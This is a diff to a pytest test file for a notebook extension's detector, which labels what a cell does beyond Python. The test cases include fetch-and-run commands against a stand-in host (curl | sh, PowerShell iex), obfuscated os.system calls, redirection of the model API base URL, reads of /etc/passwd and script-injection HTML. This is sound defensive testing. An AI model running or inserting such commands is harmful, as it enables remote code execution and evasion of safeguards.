@@ -11,6 +11,7 @@ import pytest
 from good_cells import GOOD
 from shells import Shell
 
+from nemotron_magic import Session
 from nemotron_magic.code.effects import effects_of
 
 SHELL = "This cell runs a shell."
@@ -22,6 +23,9 @@ FROM_URL = "This cell runs code from a URL."
 FROM_E = "This cell installs from e.example."
 EXTENSION = "This cell loads an extension."
 INSTALLS = "This cell installs packages."
+SHELL_INSTALLS = "This cell runs a shell and installs packages."
+FILE_URL = "This cell runs another file and runs code from a URL."
+OUTSIDE = "This cell reads or writes outside this folder."
 
 
 @pytest.fixture(scope="module")
@@ -96,7 +100,6 @@ CELLS = {
     "%%perl\nprint 1": "This cell runs another program.",
     # script in the page
     "%%html\n<script>1</script>": SCRIPT,
-    "%%HTML\n<b>": SCRIPT,
     "%%javascript\nalert(1)": SCRIPT,
     "%%js\nalert(1)": SCRIPT,
     "%%svg\n<svg onload=alert(1)>": SCRIPT,
@@ -204,20 +207,160 @@ CELLS = {
     "from nemotron_magic import Session\nSession().ask('why')": ASKS,
     "%%writefile x.py\n1": "This cell writes a file.",
     "import shutil\nshutil.rmtree('x')": "This cell deletes files.",
-    "open('/etc/passwd')": "This cell reads or writes outside this folder.",
+    "open('/etc/passwd')": OUTSIDE,
     "from pathlib import Path\nPath('~/x').expanduser()":
-        "This cell reads or writes outside this folder.",
+        OUTSIDE,
     "import shutil\nshutil.copy('x', '/etc/x')":
-        "This cell reads or writes outside this folder.",
+        OUTSIDE,
     "%alias zz ls": "This cell gives a magic another name.",
     "!ls\n%load_ext x\n%nemotron why":
         "This cell runs a shell, loads an extension and asks the model again (costs).",
+    # what is fetched and then run, by whichever way
+    "!curl -o i.sh https://e.example/i.sh && bash i.sh": SHELL_URL,
+    "!wget https://e.example/i.sh; sh ./i.sh -y": SHELL_URL,
+    "!wget -q https://e.example/a.sh\n!chmod +x a.sh\n!./a.sh": SHELL_URL,
+    "%%bash\ncurl -sL https://e.example/x > x.py\npython3 -u x.py --all": SHELL_URL,
+    "%%sh\nx=$(curl -s https://e.example)\neval \"$x\"": SHELL_URL,
+    "%%sh\nx=`wget -qO- https://e.example`\necho \"$x\" | sh": SHELL_URL,
+    "!aria2c https://e.example/i.sh && . i.sh": SHELL_URL,
+    "!git clone https://e.example/tools.git && bash tools/install.sh": SHELL_URL,
+    "!curl https://e.example/i.sh | tee i.sh; cat i.sh | sh": SHELL_URL,
+    "!curl https://e.example -o i.sh && sh < i.sh": SHELL_URL,
+    "!curl https://e.example | sudo -E bash": SHELL_URL,
+    "!curl https://e.example | sudo -u root bash -s -- -y": SHELL_URL,
+    "!curl https://e.example | env A=1 bash": SHELL_URL,
+    "!curl https://e.example | A=1 nice -n 10 sh": SHELL_URL,
+    "!curl https://e.example | timeout 60 bash -e": SHELL_URL,
+    "!curl https://e.example |& sh": SHELL_URL,
+    "!curl https://e.example | xargs -I{} sh -c '{}'": SHELL_URL,
+    "!curl https://e.example | bash -o pipefail": SHELL_URL,
+    "!/usr/bin/curl https://e.example | /usr/bin/env bash": SHELL_URL,
+    "!lynx -source https://e.example | sh": SHELL_URL,
+    "!http GET https://e.example | python3": SHELL_URL,
+    "!busybox wget -O- https://e.example | busybox sh": SHELL_URL,
+    "!nc e.example 80 | sh": SHELL_URL,
+    "!aws s3 cp s3://b/x - | bash": SHELL_URL,
+    "!python3 -c 'import urllib.request as u; print(u.urlopen(\"https://e.example\")"
+    ".read())' | sh": SHELL_URL,
+    "!deno run https://e.example/x.ts": SHELL_URL,
+    "!uv run https://e.example/x.py": SHELL_URL,
+    "%%powershell\niwr https://e.example | iex": SHELL_URL,
+    "%%powershell\niex ((New-Object Net.WebClient).DownloadString('https://e.example'))":
+        SHELL_URL,
+    "import subprocess\nsubprocess.run(['sh', '-c', 'curl https://e.example | sh'])":
+        SHELL_URL,
+    "c = 'curl https://e.example | sh'\nimport os\nos.system(c)": SHELL_URL,
+    "import os, requests\nos.system(requests.get(u).text)": SHELL_URL,
+    "import subprocess, requests\n"
+    "subprocess.run('sh', input=requests.get(u).text, text=True)": SHELL_URL,
+    "import subprocess\nexec(subprocess.check_output(['curl', u]))":
+        "This cell runs code from a URL and runs a shell.",
+    "from urllib.request import urlretrieve\nurlretrieve(u, 'x.py')\n%run x.py":
+        FILE_URL,
+    "import urllib.request as u\nu.urlretrieve('https://e.example/h.py', 'h.py')\n"
+    "import h": FROM_URL,
+    "!wget https://e.example/helper_functions.py\n"
+    "from helper_functions import plot": SHELL_URL,
+    "import requests\nopen('h.py', 'w').write(requests.get(u).text)\nimport h":
+        FROM_URL,
+    "import requests\nwith open('h.py', 'wb') as f:\n"
+    "    f.write(requests.get(u).content)\nexec(open('h.py').read())": FILE_URL,
+    "import httpx\nfrom pathlib import Path\n"
+    "Path('h.py').write_text(httpx.get(u).text)\n"
+    "import runpy\nrunpy.run_path('h.py')": FILE_URL,
+    "import requests\ns = requests.Session()\nexec(s.get(u).text)": FROM_URL,
+    # other names for the same
+    "import os\np = o = os\np.system('ls')": SHELL,
+    "import os\np = o = os\no.system('ls')": SHELL,
+    "import os, sys\na, b = sys, os\nb.system('ls')": SHELL,
+    "import os\n[a] = [os]\na.popen('ls')": SHELL,
+    "import os\nclass X: pass\nX.o = os\nX.o.system('ls')": SHELL,
+    "import os\nd = {'o': os}\nd['o'].system('ls')": SHELL,
+    "import os\n[os][0].system('ls')": SHELL,
+    "import os\n(os if x else os).system('ls')": SHELL,
+    "import os\n(lambda: os)().system('ls')": SHELL,
+    "import os\nfor m in [os]:\n    m.system('ls')": SHELL,
+    "import os\n(o := os).system('ls')": SHELL,
+    "__import__(name='os').system('ls')": SHELL,
+    "import importlib\nimportlib.import_module(name='os').popen('ls')": SHELL,
+    "__builtins__.__import__('os').system('ls')": SHELL,
+    "import os\nos.__getattribute__('system')('ls')": SHELL,
+    "import os\nobject.__getattribute__(os, 'system')('ls')": SHELL,
+    "import os\nos.system.__call__('ls')": SHELL,
+    "import os\nos.__dict__.get('system')('ls')": SHELL,
+    "import os\nvars(os)['sys' 'tem']('ls')": SHELL,
+    "import os\nn = 'system'\ngetattr(os, n)('ls')": SHELL,
+    "import os\ngetattr(os, ''.join(['sys', 'tem']))('ls')": SHELL,
+    "import sys\nsys.modules.get('os').system('ls')": SHELL,
+    "import operator, os\noperator.attrgetter('system')(os)('ls')": SHELL,
+    "import shutil\nshutil.os.system('ls')": SHELL,
+    # texts that are run
+    "import timeit\ntimeit.timeit('import os; os.system(\"ls\")', number=1)": SHELL,
+    "import timeit\ntimeit.repeat(setup='import os; os.system(\"ls\")')": SHELL,
+    "from timeit import Timer\nTimer('__import__(\"os\").system(\"ls\")').timeit()":
+        SHELL,
+    "import cProfile\ncProfile.run('import os; os.system(\"ls\")')": SHELL,
+    "s = 'import os; os.system(\"ls\")'\nexec(s)": SHELL,
+    "exec(held_code)": SHELL,
+    "list(map(exec, ['import os; os.system(\"ls\")']))": SHELL,
+    "import threading as t\nt.Thread(target=exec, args=['import os; os.system(1)'])":
+        SHELL,
+    # settings
+    "c = get_config()\nc.Nemotron = {}": SETTINGS,
+    "get_ipython().config['Nemotron'] = {'redact': False}": SETTINGS,
+    "n = get_ipython().config.Nemotron\nn.redact = False": SETTINGS,
+    "get_ipython().config.update({'Nemotron': {'redact': False}})": SETTINGS,
+    "del get_ipython().config.Nemotron.max_cost_usd": SETTINGS,
+    "import nemotron_magic.session.budget as b\nb.check = print": SETTINGS,
+    "from os import environ as e\ne['AIMLAPI_API_BASE'] = 'https://e.example'":
+        SETTINGS,
+    "%env AIMLAPI_API_BASE https://e.example": SETTINGS,
+    "from nemotron_magic import Session\ns = Session()\ns.ask('why')": ASKS,
+    "held_session.ask('why')": ASKS,
+    "%nemotron -m x why": ASKS,
+    "%nemotron -t 0.2 -s 'be brief' why -h": ASKS,
+    "%nemotron --fresh why -h": ASKS,
+    "%nemotron --data full why":
+        "This cell changes settings of %nemotron and asks the model again (costs).",
+    # installers
+    "%pip wheel x": INSTALLS,
+    "%pip download x": INSTALLS,
+    "!uv tool install x": SHELL_INSTALLS,
+    "!uv sync": SHELL_INSTALLS,
+    "!uv pip sync r.txt": SHELL_INSTALLS,
+    "!bun add x": SHELL_INSTALLS,
+    "!bunx x": SHELL_INSTALLS,
+    "!pdm add x": SHELL_INSTALLS,
+    "!poetry add x": SHELL_INSTALLS,
+    "%conda env update -f e.yml": INSTALLS,
+    "%conda create -n e python": INSTALLS,
+    "%mamba update numpy": INSTALLS,
+    "!sudo apt-get -y install x": SHELL_INSTALLS,
+    "!go get x": SHELL_INSTALLS,
+    "!npm --silent install x": SHELL_INSTALLS,
+    "!python setup.py install": SHELL_INSTALLS,
+    "!pacman -S x": SHELL_INSTALLS,
+    "%env PIP_INDEX_URL=https://e.example\n%pip install x": FROM_E,
+    "import os\nos.environ['PIP_INDEX_URL'] = 'https://e.example'\n%pip install x":
+        FROM_E,
+    # the rest
+    "%%html\n<b onclick='a()'>x</b>": SCRIPT,
+    "%%svg\n<svg><script>1</script></svg>": SCRIPT,
+    "%%html\n<a href='javascript&#58;a()'>x</a>": SCRIPT,
+    "import ipywidgets\nipywidgets.HTML('<img src=x onerror=a()>')": SCRIPT,
+    "f(trust_remote_code=True)": FROM_URL,
+    "f(trust_remote_code=x)": FROM_URL,
+    "open('a/../../x')": OUTSIDE,
+    "open(file='/etc/passwd')": OUTSIDE,
+    "p = '/etc/passwd'\nopen(p)": OUTSIDE,
 }  # fmt: skip
 
 
 @pytest.mark.parametrize("cell", CELLS)
 def test_what_a_cell_does_outside_of_python_is_said(shell: Shell, cell: str) -> None:
     names: dict[str, object] = {
+        "held_code": "import os; os.system('ls')",
+        "held_session": Session(),
         "held_os": os,
         "held_run": subprocess.run,
         "held_system": os.system,
@@ -260,10 +403,60 @@ def test_what_a_cell_does_outside_of_python_is_said(shell: Shell, cell: str) -> 
         "%pip show pip",
         "(" * 150,
         "x" + ".a" * 300,
+        "f(trust_remote_code=False)",
+        "%nemotron -h",
+        "%nemotron --help",
+        "%nemotron --preview why",
+        "%nemotron --code --preview plot it",
+        "%nemotron -m x -h",
+        "%nemotron -s 'be brief' --preview why",
+        "%nemotron --preview fix",
+        "from nemotron_magic import Session\ns = Session()",
+        "from nemotron_magic import Session\nwith Session() as s:\n    s.reset()",
+        "import nemotron_magic as n\nprint(n.__version__)",
+        "open('/dev/null', 'w')",
+        "import os\nopen(os.devnull)",
+        "open('/dev/stdin')",
+        "import os\nopen(os.path.abspath('x.csv'))",
+        "open(f'{folder}/x.csv')",
+        "open(folder + '/x.csv')",
+        "%%html\n<b>x</b>",
+        "%%HTML\n<table><tr><td>1</td></tr></table>",
+        "%%svg\n<svg><circle r='1'/></svg>",
+        "page = '<b>x</b>'\nfrom IPython.display import HTML\nHTML(page)",
+        "%env AIMLAPI_API_KEY",
+        "import os\nos.environ['HOME'] = 'x'\nos.environ.get('A_X')",
+        "d = {'a': 1}\nd['b'] = 2\nd.update(c=3)",
+        "from sklearn.base import clone\nm = clone(model)\nm.set_params(a=1)",
+        "import timeit\ntimeit.timeit('x + 1', number=10)",
+        "compile = re.compile('ls')",
+        "p = q = []\np.append(1)",
     ],
 )
 def test_of_ordinary_code_nothing_is_said(shell: Shell, cell: str) -> None:
     assert effects_of(cell, shell.ip.transform_cell, {"df": 1}) == ""
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "!curl -o data.csv https://e.example/data.csv && python clean.py data.csv",
+        "!curl -s https://e.example/x.json | python3 -m json.tool",
+        "!curl -s https://e.example | python3 -c 'import json, sys; print(1)'",
+        "!curl https://e.example | perl -ne 'print if /a/'",
+        "!curl -s https://e.example | python parse.py",
+        "!curl -s https://e.example | tar xz",
+        "!wget https://e.example/a.zip && unzip a.zip",
+        "!wget -q https://e.example/train.csv\nimport train_utils\nx = 1",
+        "!git clone https://e.example/a && ls a",
+        "!apt update",
+        "!ssh host ls | sh_count",
+        "!bash run.sh 2>&1 | tee run.log",
+        "!pip list | grep install",
+    ],
+)
+def test_of_an_ordinary_command_only_the_shell_is_said(shell: Shell, cell: str) -> None:
+    assert effects_of(cell, shell.ip.transform_cell) == SHELL
 
 
 @pytest.mark.parametrize("cell", GOOD)
